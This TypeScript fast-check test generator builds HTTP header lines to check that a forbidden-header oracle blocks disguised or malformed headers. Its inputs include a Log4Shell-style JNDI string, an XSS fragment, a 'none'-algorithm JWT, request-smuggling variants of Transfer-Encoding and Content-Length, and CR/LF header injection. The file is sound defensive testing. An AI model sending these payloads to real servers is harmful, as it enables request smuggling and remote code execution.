import fc from "fast-check";
import { FORBIDDEN_EXAMPLES, isForbidden, NEVER_DISGUISED_EXAMPLES } from "../oracle/forbiddenHeaders.ts";

const VALUES = [
  "1",
  "x",
  "a, b",
  "{elsewhere}",
  "http://{elsewhere}/",
  "127.0.0.1",
  "Bearer {token:bob}",
  "{token:alice}",
  "eyJhbGciOiJub25lIn0.e30.",
  "chunked",
  "close",
  "0",
  "trailers",
  'for="_mdn"',
  "'\"><script>",
  "$" + "{jndi:ldap://{elsewhere}/a}",
  "a=b; c=d",
  "",
  "\t",
];

/** Ways to write a name so that one reader takes it for another and the next does not. */
const DISGUISES: readonly ((name: string) => string)[] = [
  (name) => name.replaceAll("-", "_"),
  (name) => name.replaceAll("-", "."),
  (name) => name.replace("-", "_"),
  (name) => name.replace("-", "--"),
  (name) => `${name}_`,
  (name) => name.replaceAll("-", "~"),
];
/** And ways that only a lenient reader takes for a name at all. */
const BROKEN_DISGUISES: readonly ((name: string) => string)[] = [
  (name) => `${name} `,
  (name) => `${name}\t`,
  (name) => ` ${name}`,
  (name) => name.replace("-", " "),
  (name) => name.replace("o", "\u00f6"),
  (name) => `${name};`,
];
const AS_IT_IS = [(name: string) => name, (name: string) => name.toUpperCase()];

const value = fc.constantFrom(...VALUES);
const disguised = (names: readonly string[], disguises: readonly ((name: string) => string)[]): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom(...names), fc.constantFrom(...disguises), value)
    .map(([name, disguise, text]) => headerLine(disguise(name), text));
const forbidden = fc.oneof(
  { weight: 6, arbitrary: disguised(FORBIDDEN_EXAMPLES, [...AS_IT_IS, ...DISGUISES]) },
  { weight: 2, arbitrary: disguised(NEVER_DISGUISED_EXAMPLES, DISGUISES) },
);

/**
 * A disguise may be so good that nobody can see through it, or make the line a part of the one before it (a folded line):
 * then no token stands behind it, for a caller may send its own under a name of its own.
 */
function headerLine(name: string, text: string): string {
  return `${name}: ${text.includes("{token") && (/^\s/.test(name) || !isForbidden(name.trim())) ? "x" : text}`;
}

const ours = fc.constantFrom(
  "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
  "traceparent: 00-00000000000000000000000000000000-b7ad6b7169203331-01",
  "traceparent: ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
  "traceparent: garbage",
  "tracestate: a=b,c=d",
  "X-Correlation-Id: 0af76519-16cd-43dd-8448-eb211c80319c",
  'X-Correlation-Id: a b"c',
  `X-Correlation-Id: ${"x".repeat(65)}`,
  "x-correlation-id: {token:alice}",
  "client-request-id: ../../x",
  "client-request-id: fine",
  "x-api-version: 1999-01-01",
  "X_Api_Version: 1999-01-01",
  "x-api-key: guess",
  "X-HTTP-Method-Override: DELETE",
  "X-HTTP-Method: PATCH",
  "X_Method_Override: PUT",
  "X-HTTP-Method-Override: get",
  "Content-Type: application/json",
  "Content-Type: text/html",
  "Content-Encoding: gzip",
  "Accept: text/html",
  "Accept-Encoding: gzip, br",
  "Range: bytes=0-1,2-3",
  'If-None-Match: "x"',
  "x-ms-version: 2024-01-01",
  "Expect: 100-continue",
  "TE: trailers",
  "Upgrade: websocket",
  "Upgrade: h2c",
  "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
  "Connection: close, x-harmless",
  "Connection: authorization",
  "Connection: content-length, host",
  "Connection: upgrade",
  "Connection: keep-alive",
  "Host: {elsewhere}",
);

const garbled = fc.oneof(
  disguised([...FORBIDDEN_EXAMPLES, ...NEVER_DISGUISED_EXAMPLES], [...AS_IT_IS, ...BROKEN_DISGUISES]),
  fc.constantFrom(
    " folded: line",
    "\tX-Forwarded-Host: folded",
    "X-Fold: a\r\n b",
    "X-Fold: a\r\n\tX-Forwarded-For: 6.6.6.6",
    "X-Bare: a\nX-Forwarded-For: 6.6.6.6",
    "X-Bare: a\rX-Forwarded-For: 6.6.6.6",
    "no colon",
    ": no name",
    "X-Null: a\0b",
    "X-Control: a\x01b",
    "X-Latin: caf\xe9",
    "X(Y): comment",
    "X@Y: at",
    '"X": quoted',
    "GET /smuggled HTTP/1.1",
    "Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer_Encoding: chunked",
    "Content-Length: 0",
    "Content-Length: +5",
    "Content-Length: 5, 5",
    "Content-Length: -1",
    "Content-Length: 0x10",
    "Content-Length: 99999999999999999999",
    "Content_Length: 3",
  ),
  fc
    .tuple(fc.string({ unit: octets(0x20), maxLength: 10 }), fc.string({ unit: octets(0x20), maxLength: 20 }))
    .map(([name, text]) => `${name}:${text}`),
);

function octets(from: number): fc.Arbitrary<string> {
  return fc.integer({ min: from, max: 0xff }).map((code) => String.fromCharCode(code));
}

const harmless = fc
  .tuple(
    fc.integer({ min: 0, max: 99 }),
    fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((code) => String.fromCharCode(code)), maxLength: 30 }),
  )
  .map(([number, text]) => `X-Harmless-${number}: ${text}`);

/** Kestrel takes 100 fields and 32 KiB of them; around both. */
const many = fc
  .constantFrom(80, 99, 130, 2_000)
  .map((count) => Array.from({ length: count }, (_, index) => `X-Many-${index}: ${index}`));
const huge = fc.constantFrom(8_000, 15_500, 30_000, 33_000, 70_000).map((length) => [`X-Huge: ${"h".repeat(length)}`]);

/** Most requests carry a few that must not pass among some that may; few are beyond a server's parser. */
export const headerLines: fc.Arbitrary<string[]> = fc.oneof(
  { weight: 6, arbitrary: fc.array(harmless, { maxLength: 3 }) },
  { weight: 12, arbitrary: fc.array(fc.oneof(forbidden, ours, harmless), { minLength: 1, maxLength: 8 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(garbled, fc.array(fc.oneof(forbidden, ours, garbled), { maxLength: 3 }))
      .map(([first, more]) => [...more, first]),
  },
  { weight: 1, arbitrary: fc.oneof(many, huge) },
);
